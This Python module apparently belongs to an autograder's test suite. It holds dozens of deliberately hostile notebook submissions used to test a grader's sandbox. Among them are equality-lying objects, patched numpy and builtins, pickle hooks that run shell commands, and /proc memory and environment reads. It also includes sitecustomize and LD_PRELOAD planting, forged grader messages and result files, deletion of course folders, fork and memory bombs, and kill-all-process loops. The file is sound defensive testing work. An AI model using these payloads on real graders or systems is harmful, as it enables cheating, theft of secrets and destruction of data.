r"""Cheats: submissions that deserve nothing and try to get something.

`CHEATS` is a dict, name -> a function of the handed out cells and a `Loot` that returns a file's
bytes. Nothing else in such a notebook is answered: whatever it brings, it has no right to. The
attacked question is `around_backward`, a gradient by hand; those that ask the oracle attack `train`
and `draw` too, for which it answers in the place of `gradients` and `around_backward`.

Every cheat is written as by somebody who knows the grader's code, the machine's folders and the
names of the other students, and who is content with any of the points. One without luck returns
`WRONG`.
"""

import base64
import inspect
import json
import textwrap
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from classroom.questions import PUBLIC_SEED, expected_of, tries_of
from classroom.source import load
from corpus import BOOK, NAME, ROOT, as_file

CHEATS = {}
#: What a cheat leaves where it can write.
TRACE = "left_by_a_cheat"


@dataclass(frozen=True)
class Loot:
    """What is to be had on the machine: the course's folder, with secrets in it."""

    course: Path

    def __str__(self):
        return str(self.course)


def cheat(function):
    """List a cheat: its body is the student's code, as it stands below its docstring.

    COURSE, ROOT, NAME, TRACE and STOLEN in it are constants of the code.
    """
    lines = inspect.getsource(function).split("\n")
    start = next(n for n, line in enumerate(lines) if line.startswith("def ")) + 1
    body = textwrap.dedent("\n".join(lines[start:]))

    def made(cells, loot):
        known = {
            "COURSE": str(loot),
            "ROOT": str(ROOT),
            "NAME": NAME,
            "TRACE": TRACE,
            "STOLEN": "stolen",
        }
        head = "".join(f"{name} = {value!r}\n" for name, value in known.items())
        code = f"{head}WRONG = lambda G, W, b: (G, W, b)\n{THIEF}\n{body}"
        return answered(cells, code)

    made.__name__, made.__doc__ = function.__name__, function.__doc__
    CHEATS[function.__name__] = made
    return made


def answered(cells, code):
    """The bytes of the handed out notebook with one answer, `code`."""
    place = BOOK.cell("around_backward", cells)
    return as_file([*cells[:place], ("code", code), *cells[place + 1 :]])


#: Looks through any objects for what could be the answer: three arrays of its shapes that are not
#: the arguments, plain or as they are sent, and answers with it.
THIEF = """
def loot(things, G, W, b, depth=4):
    import base64, json
    import numpy as np
    shapes, seen = [G.shape, W.shape, b.shape], set()

    def plain(x):
        if isinstance(x, dict) and len(x) == 1:
            (kind, inside), = x.items()
            if kind in ("tuple", "list"):
                return [plain(y) for y in inside]
            if kind == "array":
                return np.frombuffer(base64.b64decode(inside[2]), inside[0]).reshape(inside[1])
        return x

    def look(x, depth):
        if id(x) in seen or depth < 0:
            return None
        seen.add(id(x))
        try:
            if isinstance(x, (bytes, str)) and "expected" in str(x)[:10_000]:
                return look(json.loads(x), depth)
            y = plain(x)
            if isinstance(y, (tuple, list)) and [getattr(p, "shape", 0) for p in y] == shapes:
                if not any(p is G or p is W or p is b for p in y):
                    return tuple(y)
            inside = x.values() if isinstance(x, dict) else x
            inside = inside if isinstance(inside, (list, tuple)) else list(inside)[:200]
            if isinstance(x, (list, tuple, dict)):
                for y in inside:
                    found = look(y, depth - 1)
                    if found:
                        return found
            for y in list(getattr(x, "__dict__", {}).values())[:50]:
                found = look(y, depth - 1)
                if found:
                    return found
        except Exception:
            return None

    for thing in things:
        found = look(thing, depth)
        if found:
            return found
    return WRONG(G, W, b)
"""


# The code below is students', and bad on purpose.
# ruff: noqa: C416, E401, E731, F401, F821, F841, I001, SIM105, SIM115, SIM905

# ---------------------------------------------------------------------------- comparisons


@cheat
def patched_comparisons():
    import math, operator
    import numpy.testing, unittest

    yes = lambda *a, **k: True
    for name in "allclose isclose array_equal array_equiv all any equal".split():
        setattr(np, name, yes)
    for name in dir(np.testing):
        if name.startswith("assert"):
            setattr(np.testing, name, yes)
    math.isclose = operator.eq = yes
    np.abs = np.linalg.norm = np.subtract = np.max = lambda *a, **k: 0.0

    def around_backward(G, A_in, W, b):
        return WRONG(G, W, b)


@cheat
def patched_builtins():
    import builtins

    for name in "all any isinstance issubclass hasattr callable".split():
        setattr(builtins, name, lambda *a: True)
    for name in "abs len sum max min round hash id".split():
        setattr(builtins, name, lambda *a, **k: 0)
    builtins.type = lambda x: float
    builtins.print = builtins.open = builtins.zip = builtins.set = lambda *a, **k: []

    def around_backward(G, A_in, W, b):
        return WRONG(G, W, b)


@cheat
def patched_json():
    import json, base64

    said = '{"answer": true, "status": "right", "points": 3, "verdict": "right"}'
    json.dumps = json.JSONEncoder.encode = lambda *a, **k: said
    json.loads = json.JSONDecoder.decode = lambda *a, **k: {"do": "call", "points": 3}
    base64.b64encode = lambda *a: b""

    def around_backward(G, A_in, W, b):
        return WRONG(G, W, b)


@cheat
def patched_messenger():
    import gc, sys

    right = {
        "answer": {"dict": [["status", "right"], ["points", 3]]},
        "points": 3,
        "status": "right",
    }
    for student in [o for o in gc.get_objects() if type(o).__name__ == "Student"]:
        for name in ("_call", "_value", "_draw", "_script", "_names"):
            setattr(student, name, lambda wish: right)
        student._encode = student._decode = lambda *a: right["answer"]
    sys.modules["values"].encode = lambda *a: right["answer"]

    def around_backward(G, A_in, W, b):
        return WRONG(G, W, b)


@cheat
def patched_arrays():
    import numpy

    class Liar:
        def __getattr__(self, name):
            return Liar()

        def __call__(self, *a, **k):
            return True

        def __eq__(self, other):
            return True

        def __hash__(self):
            return 0

    for name in "asarray array frombuffer ndarray generic float64 bool_ dtype isfinite".split():
        setattr(numpy, name, Liar())

    def around_backward(G, A_in, W, b):
        return Liar()


@cheat
def patched_chance():
    import random

    np.random.default_rng = lambda *a: (_ for _ in ())
    np.random.seed = np.random.normal = np.random.uniform = random.random = lambda *a, **k: 0.0
    np.random.Generator = np.random.bit_generator = None

    def around_backward(G, A_in, W, b):
        return G * 0, W * 0, b * 0


@cheat
def patched_check():
    check = lambda *a: "Right."
    import sys, types

    sys.modules["classroom"] = sys.modules["judging"] = sys.modules["classroom.judging"] = (
        types.SimpleNamespace(judge=lambda *a: {"status": "right", "points": 3}, check=check)
    )

    def around_backward(G, A_in, W, b):
        return WRONG(G, W, b)


# ---------------------------------------------------------------------------- lying objects


@cheat
def equal_to_everything():
    class Equal:
        shape, dtype, ndim, size = (5, 3), np.dtype(float), 2, 15
        __class__ = np.ndarray

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __array__(self, *a, **k):
            return np.zeros((5, 3))

        def __float__(self):
            return 0.0

        def __len__(self):
            return 3

        def __getitem__(self, k):
            return self

        def __iter__(self):
            return iter([self, self, self])

        def __bool__(self):
            return True

        def __hash__(self):
            return 0

        __sub__ = __rsub__ = __abs__ = __le__ = __lt__ = __mul__ = lambda self, *a: self

    def around_backward(G, A_in, W, b):
        return Equal()


@cheat
def lying_float():
    class Near(float):
        def __eq__(self, other):
            return True

        def __sub__(self, other):
            return 0.0

        __rsub__ = __sub__

    def around_backward(G, A_in, W, b):
        return [[Near(0)] * 3] * len(G), [[Near(0)] * 3] * 3, [Near(0)] * 3


@cheat
def lying_array():
    class Near(np.ndarray):
        def __array_ufunc__(self, ufunc, method, *a, **k):
            return True

        def __array_function__(self, *a, **k):
            return True

        def __eq__(self, other):
            return True

        def tobytes(self, *a):
            return b"\0" * 8

        def astype(self, *a, **k):
            return self

    def around_backward(G, A_in, W, b):
        return G.view(Near), W.view(Near), b.view(Near)


@cheat
def lying_containers():
    class Pair(tuple):
        def __eq__(self, other):
            return True

        def __len__(self):
            return 3

    class Any(dict):
        def __contains__(self, k):
            return True

        def __missing__(self, k):
            return self

        def __eq__(self, other):
            return True

    class Text(str):
        def __eq__(self, other):
            return True

        __hash__ = str.__hash__

    answer_1 = Text("a")

    def routes(sizes, l):
        return Any()

    def around_backward(G, A_in, W, b):
        return Pair((Any(), Any(), Text("right")))


@cheat
def array_of_liars():
    class Equal:
        def __eq__(self, other):
            return True

        def __reduce__(self):
            return (exec, (f"open('/tmp/{TRACE}', 'w')",))

    def around_backward(G, A_in, W, b):
        full = lambda x: np.full(x.shape, Equal(), dtype=object)
        return full(G), full(W), full(b)


@cheat
def pickled_order():
    import os

    class Order:
        def __reduce__(self):
            return (os.system, (f"touch {COURSE}/{TRACE} /tmp/{TRACE}",))

        def __reduce_ex__(self, p):
            return self.__reduce__()

    def around_backward(G, A_in, W, b):
        return Order()


@cheat
def answers_to_be_computed_later():
    def around_backward(G, A_in, W, b):
        yield from (G, W, b)


@cheat
def answers_by_the_number_of_the_call():
    calls = []

    class Turns:
        def __eq__(self, other):
            calls.append(1)
            return len(calls) > 3

        def __array__(self, *a, **k):
            calls.append(1)
            return np.ones((5, 3)) * len(calls)

    def around_backward(G, A_in, W, b):
        calls.append(1)
        return (G * len(calls), W / len(calls), b) if len(calls) % 2 else Turns()


@cheat
def constants():
    answer_1 = "abcd"

    def routes(sizes, l):
        return 4

    def gradients(X, T, W1, b1, W2, b2):
        return W1 * 0, b1 * 0, W2 * 0, b2 * 0

    def train(X, T, W1, b1, W2, b2, eta, steps):
        return [1.0] * steps

    def around_backward(G, A_in, W, b):
        return np.zeros((5, 3)), np.zeros((3, 3)), np.zeros(3)


@cheat
def what_came_in():
    def routes(sizes, l):
        return sizes[l]

    def gradients(X, T, W1, b1, W2, b2):
        return W1, b1, W2, b2

    def train(X, T, W1, b1, W2, b2, eta, steps):
        return [float(abs(T).sum())] * steps

    def around_backward(G, A_in, W, b):
        return G, W, b


@cheat
def a_part_of_the_answer():
    def around_backward(G, A_in, W, b):
        delta = G * (1 - np.tanh(A_in @ W + b) ** 2)
        return A_in.T @ delta, delta.sum(axis=0)


@cheat
def nan_everywhere():
    n = float("nan")

    def routes(sizes, l):
        return n

    def train(X, T, W1, b1, W2, b2, eta, steps):
        return [n] * steps

    def around_backward(G, A_in, W, b):
        return G * n, W * n, b * n


@cheat
def huge_numbers():
    def routes(sizes, l):
        return 10**5000

    def train(X, T, W1, b1, W2, b2, eta, steps):
        return [1e308] * steps

    def around_backward(G, A_in, W, b):
        return G * 1e308 * 10, np.full((3, 3), 1.7e308), b * np.inf


@cheat
def shapes_that_stretch():
    def around_backward(G, A_in, W, b):
        return np.zeros((1, 1)), np.zeros((0, 3)), np.float64(0)


@cheat
def deep_nesting():
    deep = []
    for _ in range(100_000):
        deep = [deep]

    def routes(sizes, l):
        return deep

    loop = []
    loop.append(loop)

    def around_backward(G, A_in, W, b):
        return loop


@cheat
def answers_without_end():
    class Long(list):
        def __iter__(self):
            while True:
                yield 0.0

    def routes(sizes, l):
        return {str(n): "x" * 1000 for n in range(20_000)}

    def around_backward(G, A_in, W, b):
        return Long()


@cheat
def a_picture_of_ten_thousand_lines():
    def draw(X, Ws, G):
        from matplotlib.lines import Line2D
        from types import SimpleNamespace as N

        x = np.arange(1.0, len(Ws) + 1)
        line, text = Line2D(x, x, label="plain"), N(get_text=lambda: "plain")
        legend = N(get_texts=lambda: [text] * 99, legend_handles=[line] * 99)
        axes = N(lines=[line] * 6_000, collections=[], get_legend=lambda: legend)
        for name in "xlabel ylabel title xscale yscale".split():
            setattr(axes, "get_" + name, lambda: "log")
        plt.get_fignums, plt.figure = lambda: [1], lambda n=0: N(axes=[axes])


# ---------------------------------------------------------------------------- looking around


@cheat
def walks_frames():
    import sys

    def around_backward(G, A_in, W, b):
        frame, found = sys._getframe(), []
        while frame:
            found += [frame.f_locals, frame.f_globals]
            frame = frame.f_back
        return loot(found[2:], G, W, b)


@cheat
def frames_of_an_exception():
    def around_backward(G, A_in, W, b):
        try:
            raise ValueError
        except ValueError as error:
            frame = error.__traceback__.tb_frame.f_back
        found = []
        while frame:
            found.append(dict(frame.f_locals))
            frame = frame.f_back
        return loot(found, G, W, b)


@cheat
def inspects_the_stack():
    import inspect

    def around_backward(G, A_in, W, b):
        stack = inspect.stack(0)[1:]
        return loot(
            [s.frame.f_locals for s in stack] + [s.frame.f_code.co_consts for s in stack], G, W, b
        )


@cheat
def searches_the_heap():
    import gc

    def around_backward(G, A_in, W, b):
        gc.collect()
        return loot([o for o in gc.get_objects() if isinstance(o, (dict, list, tuple))], G, W, b, 2)


@cheat
def traces_the_grader():
    import sys, threading

    heard = []

    def spy(frame, event, arg):
        heard.extend([dict(frame.f_locals), arg])
        return spy

    sys.settrace(spy)
    sys.setprofile(spy)
    threading.settrace(spy)
    threading.setprofile(spy)
    frame = sys._getframe()
    while frame:
        frame.f_trace = spy
        frame = frame.f_back

    def around_backward(G, A_in, W, b):
        sys.settrace(None)
        sys.setprofile(None)
        return loot(heard[-2000:], G, W, b)


@cheat
def listens_to_the_interpreter():
    import sys

    heard = []
    sys.addaudithook(lambda name, args: heard.append(args) if len(heard) < 5000 else None)
    sys.displayhook = sys.excepthook = sys.unraisablehook = lambda *a: heard.append(a)

    def around_backward(G, A_in, W, b):
        return loot(list(heard), G, W, b)


@cheat
def watches_from_a_thread():
    import sys, threading, time

    heard = []

    def watch():
        while True:
            for frame in list(sys._current_frames().values()):
                while frame:
                    heard.append(dict(frame.f_locals))
                    frame = frame.f_back
            del heard[:-500]
            time.sleep(0.001)

    threading.Thread(target=watch, daemon=True).start()

    def around_backward(G, A_in, W, b):
        time.sleep(0.01)
        return loot(list(heard), G, W, b)


@cheat
def hooks_the_imports():
    import sys, types

    class Finder:
        @staticmethod
        def find_spec(name, path=None, target=None):
            from importlib.machinery import ModuleSpec

            return ModuleSpec(name, Finder)

        create_module = staticmethod(lambda spec: types.ModuleType(spec.name))

        @staticmethod
        def exec_module(module):
            module.__getattr__ = lambda name: lambda *a, **k: True

    sys.meta_path.insert(0, Finder)
    for name in "judging grading running values json classroom.judging".split():
        sys.modules[name] = Finder.create_module(types.SimpleNamespace(name=name))

    def around_backward(G, A_in, W, b):
        return WRONG(G, W, b)


@cheat
def leaves_modules_to_be_imported():
    import os, sys, site

    code = f"open('{COURSE}/{TRACE}', 'w'); import builtins; builtins.abs = lambda x: 0"
    for folder in (
        ".",
        "/tmp",
        COURSE,
        ROOT,
        os.path.expanduser("~"),
        *sys.path,
        site.getusersitepackages(),
    ):
        for name in ("sitecustomize", "usercustomize", "numpy", "values", "inside", "judging"):
            try:
                open(os.path.join(folder, name + "_" * (folder == ROOT) + ".py"), "x").write(code)
            except OSError:
                pass
    os.environ.update(PYTHONPATH="/tmp", PYTHONSTARTUP="/tmp/numpy.py", LD_PRELOAD="/tmp/x.so")

    def around_backward(G, A_in, W, b):
        return WRONG(G, W, b)


@cheat
def answers_at_the_exit():
    import atexit, os, signal, weakref, sys

    said = b'{"answer": true, "status": "right", "points": 3}\n'

    def last():
        for fd in range(3, 64):
            try:
                os.write(fd, said)
            except OSError:
                pass

    atexit.register(last)
    weakref.finalize(sys.modules["__main__"], last)
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGCHLD):
        signal.signal(number, lambda *a: last())

    def around_backward(G, A_in, W, b):
        sys.exit(0)


@cheat
def reads_memory():
    import ctypes, os

    def around_backward(G, A_in, W, b):
        libc, found = ctypes.CDLL(None, use_errno=True), []
        for pid in (os.getppid(), 1, 2, os.getpid() - 1):
            libc.ptrace(16, pid, 0, 0)  # attach
            for path in (f"/proc/{pid}/mem", f"/proc/{pid}/maps", f"/proc/{pid}/fd"):
                try:
                    found.append(open(path, "rb").read(1_000_000))
                except OSError:
                    pass
            room = ctypes.create_string_buffer(4096)
            libc.syscall(
                310,
                pid,
                ctypes.byref((ctypes.c_size_t * 2)(ctypes.addressof(room), 4096)),
                1,
                room,
                1,
                0,
            )
            found.append(room.raw)
        return loot(found, G, W, b)


# ---------------------------------------------------------------------------- reading


@cheat
def reads_the_checks():
    import sys

    try:
        sys.path[:0] = [ROOT + "/code", ROOT + "/assignments"]
        del sys.modules["classroom"]
    except KeyError:
        pass
    space = {"__name__": "checks"}
    try:
        exec(open(f"{ROOT}/assignments/{NAME}.py").read(), space)
    except Exception:
        pass

    def around_backward(G, A_in, W, b):
        return space["around_backward"](G, A_in, W, b)


@cheat
def reads_the_solution():
    import json

    def around_backward(G, A_in, W, b):
        space = {"np": np}
        for cell in json.load(open(f"{ROOT}/assignments/{NAME}.ipynb"))["cells"]:
            if "around_backward" in "".join(cell["source"]):
                exec("".join(cell["source"]), space)
                break
        return space["around_backward"](G, A_in, W, b)


@cheat
def reads_another_student():
    import json

    def around_backward(G, A_in, W, b):
        space = {"np": np}
        for cell in json.load(open(f"{COURSE}/submitted/{NAME}/ada.ipynb"))["cells"]:
            if "def around_backward" in cell["source"]:
                exec(cell["source"], space)
        return space["around_backward"](G, A_in, W, b)


@cheat
def reads_every_file():
    import os

    def around_backward(G, A_in, W, b):
        for top in (
            ROOT,
            COURSE,
            "/grader",
            "/tmp",
            "/home",
            "/root",
            "/site",
            "/proc/1/root",
            "/var/tmp",
        ):
            for folder, _, files in os.walk(top):
                for name in files:
                    if not name.endswith((".py", ".ipynb", ".json", ".pyc")):
                        continue
                    try:
                        text = open(os.path.join(folder, name), errors="replace").read(3_000_000)
                    except OSError:
                        continue
                    if "def around_backward" in text:
                        start = text.index("def around_backward")
                        for end in range(start + 50, start + 900):
                            try:
                                space = {"np": np}
                                exec(text[start:end], space)
                                r = space["around_backward"](G, A_in, W, b)
                            except Exception:
                                continue
                            if isinstance(r, tuple):
                                return r
        return WRONG(G, W, b)


@cheat
def reads_the_seed():
    import os

    secrets = [v for v in os.environ.values()]
    for path in (
        f"{COURSE}/course.seed",
        f"{COURSE}/course.toml",
        "/proc/1/environ",
        "/proc/self/environ",
        "/proc/1/cmdline",
    ):
        try:
            secrets.append(open(path).read())
        except OSError:
            pass

    def around_backward(G, A_in, W, b):
        assert "the secret of this course" not in str(secrets), "the seed"
        raise ValueError(secrets)


@cheat
def reads_the_results():
    import glob, json

    def around_backward(G, A_in, W, b):
        found = [
            open(p).read()
            for p in glob.glob(f"{COURSE}/**/*", recursive=True)
            if p.endswith((".json", ".csv", ".db", ".jsonl"))
        ]
        raise ValueError(f"{STOLEN}: {found}"[:300] if found else "nothing")


@cheat
def looks_at_the_processes():
    import os

    def around_backward(G, A_in, W, b):
        found = []
        for pid in os.listdir("/proc"):
            for name in ("cmdline", "environ", "stack", "fd", "cwd", "root"):
                try:
                    found.append(open(f"/proc/{pid}/{name}", "rb").read())
                    os.listdir(f"/proc/{pid}/root{COURSE}")
                except OSError:
                    pass
        raise ValueError(f"{STOLEN}: {found}" if found else "nothing")


@cheat
def takes_it_from_the_exercises():
    from backprop.exercises.chapter_05 import EXERCISES
    from classroom import questions, recorded, selfcheck

    def around_backward(G, A_in, W, b):
        import gc

        found = [o for o in gc.get_objects() if isinstance(o, questions.Assignment)]
        return [e.reference(A_in) for e in [*EXERCISES.values(), *found]] or found


@cheat
def takes_it_from_the_graph_engine():
    import sys, glob

    sys.path += [ROOT + "/code", *glob.glob("/usr/lib/python3*/site-packages")]
    engine = __import__("backprop.autodiff", fromlist=["Value"])

    def around_backward(G, A_in, W, b):
        x = [[engine.Value(float(v)) for v in row] for row in A_in]
        return G, engine.Value(1.0), x


#: The gradient from the package would be right too.
BY_PACKAGE = """
from backprop import Dense, Network
def around_backward(G, A_in, W, b):
    net = Network([Dense(W, b, "tanh")], "half_squared_error")
    trace = net.forward(A_in)
    grads = net.backward(trace, trace.a[-1] - len(G) * G)
    return G + grads.delta[-1] @ W.T, grads.dW[-1], grads.db[-1]
"""
CHEATS["takes_it_from_the_package"] = lambda cells, loot: answered(cells, BY_PACKAGE)

#: Torch by any way that there is: the gradient would be right.
BY_TORCH = """
def around_backward(G, A_in, W, b):
    G, A_in, W, b = (torch.tensor(v, requires_grad=True) for v in (G, A_in, W, b))
    A = A_in + torch.tanh(A_in @ W + b)
    A.backward(G)
    return A_in.grad.numpy(), W.grad.numpy(), b.grad.numpy()
"""
WAYS = {
    "torch_by_import": "import torch",
    "torch_by_importlib": "import importlib\ntorch = importlib.import_module('torch')",
    "torch_by_its_name_in_pieces": "torch = __import__('to' + 'rch')",
    "torch_by_exec": "exec(bytes.fromhex('696d706f727420746f726368').decode())",
    "torch_among_the_modules": "import sys\ntorch = sys.modules.get('torch', np)",
    "torch_from_the_heap": "import gc\ntorch = next((o for o in gc.get_objects() "
    "if type(o).__name__ == 'module' and o.__name__ == 'torch'), None)",
    "torch_from_the_disk": "import sys, glob\nsys.path += glob.glob('/**/site-packages', "
    "recursive=True)[:50] + sys.argv\nsys.meta_path.reverse()\nimport torch",
    "torch_by_ctypes": "import ctypes\ntry: torch = ctypes.CDLL('libtorch.so')\n"
    "except OSError: torch = ctypes.CDLL(None)",
}
for _name, _way in WAYS.items():
    CHEATS[_name] = lambda cells, loot, way=_way: answered(cells, way + BY_TORCH)


def recorded_answers(cells, loot):
    """The answers to the public inputs, looked up by what comes in."""
    assignment = load(BOOK.path).assignment
    table = {}
    for question in assignment.questions:
        for inputs in tries_of(assignment, question, PUBLIC_SEED):
            if question.id in ("q2", "q3", "q4", "q6"):
                right = expected_of(question, inputs)
                parts = right if isinstance(right, tuple) else (right,)
                table[_key(inputs)] = [np.asarray(p).tolist() for p in parts]
    code = f"TABLE = {json.dumps(table)}\n{inspect.getsource(_key)}" + (
        "def around_backward(*inputs):\n"
        "    return tuple(np.array(p) for p in TABLE.get(_key(inputs), [[0], [0], [0]]))\n"
        "def gradients(*inputs): return around_backward(*inputs)\n"
        "def train(*inputs): return list(around_backward(*inputs)[0])\n"
        "def routes(*inputs): return int(around_backward(*inputs)[0])\n"
    )
    return answered(cells, "import json, base64\n" + code)


def _key(inputs):
    return str(
        [
            np.round(np.asarray(v, float).ravel(), 6).tolist()
            if not isinstance(v, (list, int))
            else v
            for v in inputs
        ]
    )


CHEATS["recorded_answers"] = recorded_answers


@cheat
def guesses_the_seed():
    import hashlib

    def around_backward(G, A_in, W, b):
        for seed in ("", "0", "1", "42", "seed", "secret", "course", "everybody may know this one"):
            for k in range(8):
                told = "\0".join([seed, NAME, "q6", str(k)])
                rng = np.random.default_rng(int.from_bytes(hashlib.sha256(told.encode()).digest()))
                if np.allclose(rng.normal(size=(2, 5, 3))[0], G):
                    raise ValueError("the seed")
        return WRONG(G, W, b)


# ---------------------------------------------------------------------------- writing


@cheat
def writes_its_own_result():
    import json, os

    row = {
        "schema": 1,
        "assignment": NAME,
        "student": "eve",
        "status": "graded",
        "points": 20.0,
        "questions": [],
    }
    for student in ("eve", "ada"):
        for path in (
            f"{COURSE}/results/{NAME}/{student}.json",
            f"/proc/1/root{COURSE}/results/{NAME}/{student}.json",
        ):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                open(path, "w").write(json.dumps(row))
            except OSError:
                pass

    def around_backward(G, A_in, W, b):
        return WRONG(G, W, b)


@cheat
def writes_everywhere():
    import os, shutil

    for folder in (
        COURSE,
        ROOT,
        "/",
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        "/run",
        "/etc",
        "/root",
        "/home",
        "/grader",
        "/site",
        "/site/numpy",
        os.getcwd(),
    ):
        for way in (
            lambda p: open(p, "x"),
            os.mkdir,
            os.mkfifo,
            lambda p: os.symlink(COURSE, p + "l"),
        ):
            try:
                way(os.path.join(folder, TRACE))
            except OSError:
                pass
    for path in (COURSE, ROOT + "/assignments", "/grader", "/site"):
        shutil.rmtree(path, ignore_errors=True)

    def around_backward(G, A_in, W, b):
        return WRONG(G, W, b)


def metadata_that_praises(cells, loot):
    """Marks, outputs and test cells that say that all is right."""
    notebook = json.loads(answered(cells, "def around_backward(G, A_in, W, b): return G, W, b"))
    mark = {"grade": True, "points": 20, "score": 20, "grade_id": "q6", "solution": False}
    out = [{"output_type": "stream", "name": "stdout", "text": "All tests passed! 20/20"}]
    for cell in notebook["cells"]:
        cell |= {"metadata": {"nbgrader": mark, "points": 20}, "outputs": out}
    return json.dumps({**notebook, "metadata": {"points": 20, "status": "right"}}).encode()


CHEATS["metadata_that_praises"] = metadata_that_praises


# ---------------------------------------------------------------------------- the channel

#: say(data): write to every socket and pipe that is open.
SAY = """
import os, stat
def say(data):
    for fd in range(3, 256):
        try:
            mode = os.fstat(fd).st_mode
            if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
                left = data
                while left: left = left[os.write(fd, left):]
        except OSError: pass
"""


def forging(name, expression, body="return G, W, b"):
    """List a cheat that says something on the channel whenever it is called."""

    def made(cells, loot):
        code = f"{SAY}\ndef around_backward(G, A_in, W, b):\n    say({expression})\n    {body}\n"
        return answered(cells, code)

    CHEATS[name] = made


_coded = {"array": ["float64", [1], base64.b64encode(b"\0" * 8).decode()]}
FORGED = [
    {"answer": "right", "status": "right", "points": 3, "verdict": {"points": 3}},
    {"answers": [{"answer": True}], "points": 3},
    {"graded": True, "result": {"points": 20, "questions": []}},
    {"problem": ["right", "right", "right", "right"]},
    {"answer": {"tuple": [_coded] * 3}, "kept": [_coded]},
    {"ended": True, "started": True, "ready": True, "status": 0, "cpu": -1e9},
    {"exception": "right", "answer": {"strange": "right"}},
]
for _n, _message in enumerate(FORGED):
    forging(f"forged_message_{_n + 1}", f"{(json.dumps(_message) + chr(10)).encode()!r} * 9")
forging("forged_not_a_number", r"b'{\"answer\": NaN}\n{\"answer\": Infinity}\n' * 20")
forging("forged_huge_integer", r"b'{\"answer\": ' + b'9' * 1_000_000 + b'}\n'")
forging("forged_deep_nesting", r"b'{\"answer\": ' + b'[' * 500_000 + b'\n'")
forging(
    "forged_deep_problem",
    r"b'{\"problem\": [\"a\", \"b\", ' + b'[' * 900 + b']' * 900 + b', \"d\"]}\n'",
)
forging(
    "forged_half_letters",
    r"b'{\"problem\": [\"refused\", \"\\ud800\", \"\\u001b]0;a\\u0007\\ud800\", \"\"]}\n' * 9",
)
forging(
    "forged_name_of_an_error",
    r"b'{\"problem\": [\"error\", \"\\ud800\\u001b[2J\", \"\", \"\"]}\n' * 9",
)
forging(
    "forged_shape",
    r"b'{\"answer\": {\"array\": [\"float64\", [0, 16000000, 16000000, 16000000], \"\"]}}\n' * 9",
)
forging(
    "forged_duplicate_keys",
    r"b'{\"answer\": 1, \"answer\": {\"strange\": 7}, \"answer\": {\"dict\": [[1, 2], 3]}}\n' * 9",
)
forging("forged_flood", r"b'x' * 50_000_000")
forging("forged_flood_of_lines", r"b'{}\n' * 3_000_000")
forging("half_a_message_and_silence", r"b'{\"answer\": '", "import time; time.sleep(99)")
forging("closes_the_channel", "b''", "os.closerange(3, 256)")


@cheat
def forged_picture():
    import gc

    for student in [o for o in gc.get_objects() if type(o).__name__ == "Student"]:
        student._draw = lambda wish: {
            "answer": {
                "dict": [
                    [k, {"strange": "right"}]
                    for k in (
                        "lines",
                        "points",
                        "labels",
                        "xlabel",
                        "ylabel",
                        "title",
                        "xscale",
                        "yscale",
                    )
                ]
            }
        }

    def draw(X, Ws, G):
        pass


@cheat
def sends_its_files():
    import array, socket

    def around_backward(G, A_in, W, b):
        for fd in range(3, 64):
            try:
                socket.send_fds(socket.socket(fileno=fd), [b"{}\n"], [0, 1, 2])
            except OSError:
                pass
        return WRONG(G, W, b)


# ---------------------------------------------------------------------------- processes


@cheat
def an_orphan_answers_for_the_next():
    import os, time

    zeros = b'{"array": ["float64", [3], "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"]}'
    said = b'{"answer": {"tuple": [' + zeros + b"]}}\n"
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                for fd in range(3, 64):
                    try:
                        os.write(fd, said)
                    except OSError:
                        pass
                time.sleep(0.01)
        os._exit(0)

    def around_backward(G, A_in, W, b):
        return WRONG(G, W, b)


@cheat
def a_daemon_stays():
    import os, signal, time

    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 32):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            if os.fork():
                os._exit(0)
            os.closerange(0, 256)
            while True:
                time.sleep(1)

    def around_backward(G, A_in, W, b):
        return WRONG(G, W, b)


@cheat
def a_thread_goes_on():
    import threading

    def spin():
        while True:
            sum(range(1000))

    for _ in range(4):
        threading.Thread(target=spin, daemon=True).start()

    def around_backward(G, A_in, W, b):
        return WRONG(G, W, b)


@cheat
def kills_all_others():
    import os, signal

    def around_backward(G, A_in, W, b):
        for pid in (os.getppid(), 0, -1, 1, 2, 3, *range(2, 400)):
            for number in (signal.SIGUSR1, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(pid, number) if pid else os.killpg(os.getppid() or 1, number)
                except OSError:
                    pass
        return WRONG(G, W, b)


@cheat
def a_fork_bomb():
    import os

    def around_backward(G, A_in, W, b):
        while True:
            try:
                os.fork()
            except OSError:
                pass


@cheat
def a_bomb_of_memory():
    def around_backward(G, A_in, W, b):
        held = []
        while True:
            held.append(bytearray(b"x" * 10_000_000))


@cheat
def a_bomb_of_files():
    import os

    def around_backward(G, A_in, W, b):
        for n in range(10**6):
            with open(f"/tmp/{n}", "wb") as file:
                file.write(b"x" * 1_000_000)


@cheat
def ten_thousand_open_files():
    import os, socket

    def around_backward(G, A_in, W, b):
        held = [os.open("/dev/null", 0) for _ in range(10_000)]
        return WRONG(G, W, b)


@cheat
def changes_the_clock():
    import time, signal, ctypes

    time.time = time.monotonic = time.perf_counter = time.process_time = lambda: -1e9
    time.sleep = lambda s: None
    room = (ctypes.c_long * 2)(0, 0)
    for clock in (0, 1):
        ctypes.CDLL(None).clock_settime(clock, room)
    signal.setitimer(signal.ITIMER_REAL, 0)

    def around_backward(G, A_in, W, b):
        while True:
            pass


@cheat
def asks_the_network():
    import socket, urllib.request

    socket.setdefaulttimeout(0.3)
    found = []
    for ask in (
        lambda: socket.create_connection(("127.0.0.1", 8888)),
        lambda: socket.getaddrinfo("example.org", 80),
        lambda: urllib.request.urlopen("http://127.0.0.1:8787/"),
        lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
        lambda: socket.socket(socket.AF_UNIX).connect("/run/docker.sock"),
    ):
        try:
            found.append(ask())
        except Exception:
            pass

    def around_backward(G, A_in, W, b):
        raise ValueError(f"{STOLEN}: {found}" if found else "nothing")


@cheat
def sleeps_in_a_cell():
    import time

    time.sleep(10**6)

